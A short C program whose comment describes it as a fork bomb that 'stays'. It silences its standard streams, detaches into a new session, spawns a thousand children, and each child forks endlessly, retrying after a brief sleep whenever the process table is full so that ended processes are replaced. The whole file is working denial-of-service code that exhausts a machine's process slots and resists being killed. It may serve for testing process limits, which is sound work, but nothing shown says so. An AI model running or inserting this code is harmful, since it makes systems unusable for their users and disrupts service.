// SPDX-License-Identifier: Apache-2.0
/* A bomb that stays: each of its processes forks on and on, and takes the place of whoever has ended. The first one ends
 * once there is no room for more. */
#include <fcntl.h>
#include <unistd.h>

int main(void)
{
    int null = open("/dev/null", O_RDWR);
    for (int fd = 0; fd < 3; fd++)
        dup2(null, fd);
    setsid();
    for (int i = 0; i < 1000; i++)
        if (fork() == 0)
            for (;;)
                if (fork() == -1)
                    usleep(1000);
    return 0;
}
